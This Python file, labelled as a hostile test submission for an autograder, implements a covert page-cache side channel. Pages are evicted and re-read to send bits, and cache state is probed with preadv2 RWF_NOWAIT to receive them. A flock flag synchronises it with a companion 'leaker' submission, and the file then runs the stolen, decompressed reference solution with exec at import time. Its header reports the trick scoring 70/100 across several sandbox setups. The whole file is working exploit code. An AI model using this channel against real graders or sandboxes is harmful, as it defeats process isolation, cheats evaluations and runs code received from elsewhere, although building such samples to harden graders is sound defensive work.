# HOSTILE pagecache_b_cheater: no code of its own; at import it reads which pages of the same read-only files are cached (preadv2 RWF_NOWAIT: data or EAGAIN, one byte a page), votes over the five copies and defines FullyConnectedLayer, Sigmoid and TwoLayerNet from the reference source pagecache_a_leaker.py left there (graded beside the leaker with --jobs 2 it first waits while the leaker's daemon holds a flag lock). Through the CLI it scored 70/100 in every kind of sandbox (template forks, fresh bubblewrap, limits only), in the same worker with two correct submissions between, and in the other worker. Sound grader: every part 0.
import fcntl
import os
import sys
import time
import zlib

import numpy as np

# ---- the channel: one bit per page of large read-only files (in the page cache or not) ----
PAGE = 4096
COPY_BITS = 4400          # a copy: 64-bit header + up to 542 bytes
COPIES = 5                # majority vote: other processes touch a few pages meanwhile


def _files():
    """Large files of the Python installation that both sides see (the same inodes, so the same page
    cache) and that grading never reads: the test suite's data and bytecode, the static library, the
    bundled wheels. Never .py/.ipynb (read_other_files.py reads those)."""
    found = []
    for folder, dirs, names in os.walk(sys.base_prefix):
        dirs.sort()
        for name in sorted(names):
            path = os.path.join(folder, name)
            if name.endswith((".py", ".ipynb")) or not ("/test/" in path or name.endswith((".a", ".whl"))):
                continue
            try:
                size = os.stat(path).st_size
            except OSError:
                continue
            if size >= 64 << 10 and os.path.isfile(path):
                found.append((path, size // PAGE))
    return found


def _pages(count):
    pages = []
    for path, n in _files():
        pages += [(path, i) for i in range(min(n, count - len(pages)))]
        if len(pages) == count:
            break
    return pages


def _bits(data):
    return [(byte >> k) & 1 for byte in data for k in range(8)]


def _bytes(bits):
    return bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, len(bits) - 7, 8))


def send(payload):
    """Evict the pages (posix_fadvise DONTNEED), then read one byte of each page whose bit is 1."""
    bits = _bits(b"KC" + len(payload).to_bytes(2, "little") + zlib.crc32(payload).to_bytes(4, "little") + payload)
    pages = _pages(COPY_BITS * COPIES)
    by_file = {}
    for copy in range(COPIES):
        for i, bit in enumerate(bits):
            path, page = pages[copy * COPY_BITS + i]
            by_file.setdefault(path, []).append((page, bit))
    fds = {path: os.open(path, os.O_RDONLY) for path in by_file}
    for fd in fds.values():
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    time.sleep(0.3)   # read-ahead still in flight is not evicted the first time
    for path, fd in fds.items():
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)   # no read-ahead: one page per read
        for page, bit in by_file[path]:
            if bit:
                os.pread(fd, 1, page * PAGE)
        os.close(fd)
    return len(bits)


def receive():
    """preadv2(RWF_NOWAIT) of one byte per page: data if the page is cached, EAGAIN if not."""
    pages = _pages(COPY_BITS * COPIES)
    fds, seen = {}, []
    for path, page in pages:
        if path not in fds:
            fds[path] = os.open(path, os.O_RDONLY)
            os.posix_fadvise(fds[path], 0, 0, os.POSIX_FADV_RANDOM)
        try:
            os.preadv(fds[path], [bytearray(1)], page * PAGE, os.RWF_NOWAIT)
            seen.append(1)
        except BlockingIOError:
            seen.append(0)
    for fd in fds.values():
        os.close(fd)
    copies = [seen[c * COPY_BITS:(c + 1) * COPY_BITS] for c in range(COPIES)]
    voted = [1 if sum(c[i] for c in copies) * 2 > COPIES else 0 for i in range(COPY_BITS)]
    data = _bytes(voted)
    if data[:2] != b"KC":
        return None, {"header": data[:8].hex()}
    size = int.from_bytes(data[2:4], "little")
    payload = data[8:8 + size]
    used = min((8 + size) * 8, COPY_BITS)
    flipped = sum(1 for c in copies for i in range(used) if c[i] != voted[i])
    ok = zlib.crc32(payload) == int.from_bytes(data[4:8], "little")
    return (payload if ok else None), {"bits": used, "copies": COPIES, "pages_off_the_vote": flipped, "crc_ok": ok}
# ---- end of the channel ----

def _flag_file():
    """The lock the leaker's daemon holds while its message is in place (only to tell the cheater when)."""
    return os.path.join(sys.base_prefix, "lib", "python%d.%d" % sys.version_info[:2], "this.py")


def _steal():
    """Wait (at most 6 s) while the leaker's daemon holds its flag -- graded beside it with --jobs 2 --
    then read the pages once (a read brings a page in: there is one reading)."""
    fd = os.open(_flag_file(), os.O_RDONLY)
    end = time.monotonic() + 6
    while time.monotonic() < end:
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.flock(fd, fcntl.LOCK_UN)
            time.sleep(0.1)
        except BlockingIOError:
            time.sleep(0.3)
            break
    os.close(fd)
    payload, how = receive()
    print("CHEATER:", how, "->", "nothing" if payload is None else f"{len(payload)} bytes of code", flush=True)
    stolen = {"np": np}
    if payload is not None:
        exec(zlib.decompress(payload).decode(), stolen)
    return stolen


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
